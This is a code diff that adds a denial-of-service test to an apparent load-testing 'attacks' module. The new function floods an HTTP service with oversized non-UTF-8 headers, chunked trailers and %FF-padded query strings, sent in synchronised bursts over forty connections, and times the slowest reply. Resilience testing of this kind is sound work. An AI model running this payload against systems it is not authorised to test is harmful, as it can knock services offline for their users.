@@ -1,10 +1,12 @@
 """Texts that take long to compare, to match or to normalize."""
 
 import json
+import time
+from contextlib import ExitStack, suppress
 
 from attacks.registry import attack
 from attacks.sending import flood, of_network
-from traffic import request
+from traffic import Outcome, connect, read_answers, request
 
 
 @attack
@@ -46,6 +48,41 @@ def combining_marks(target, until, number):
         *[request("GET", target.visit, headers={name: in_header}) for name in ("Origin", "Sec-Fetch-Dest", "Accept-Language")],
         request("OPTIONS", "/v1/event", headers={"Origin": in_header}),
     ])
+
+
+@attack
+def heads_that_are_no_text(target, until, number):
+    """headers, trailers and addresses of bytes that are no UTF-8, all of which end at the same moment on forty connections"""
+    sender = {"X-Forwarded-For": f"203.0.113.{number}"}
+    junk, escapes = "\xff", "%FF" * 20_000
+    chunked = request("POST", "/v1/url", b"", sender | {"Transfer-Encoding": "chunked"}).replace(b"Content-Length: 0\r\n", b"")
+    heads = [
+        request("GET", target.visit, headers=sender | {"X-Long": junk * 64_000, "X-More": junk * 29_500}),
+        request("GET", f"{target.visit}?{escapes}", headers=sender), request("GET", f"/v1/referrals/1?{escapes}", headers=sender),
+        request("GET", f"/v1/deepview?callback=a&data={escapes}", headers=sender),
+        request("GET", f"/v1/deepview?branch_key={target.key}&a={escapes}", headers=sender),
+        chunked + b"2\r\n{}\r\n0\r\nX: " + b"\xff" * 64_000 + b"\r\nY: " + b"\xff" * 29_500 + b"\r\n\r\n",
+    ]
+    outcome = Outcome()
+    turn = 0
+    while time.time() < until:
+        head = heads[turn % len(heads)]
+        turn += 1
+        began = time.monotonic()
+        with ExitStack() as stack:
+            connections = [stack.enter_context(connect(target.port)) for _ in range(40)]
+            for ending in (head[:-2], head[-2:]):
+                for connection in connections:
+                    # The server may have refused it by now.
+                    with suppress(OSError):
+                        connection.sendall(ending)
+            for connection in connections:
+                read_answers(connection, 1, [head], outcome)
+        outcome.slowest = max(outcome.slowest, time.monotonic() - began)
+        outcome.requests += 40
+        outcome.sent += 40 * len(head)
+        time.sleep(0.5)
+    return outcome
 
 
 @attack
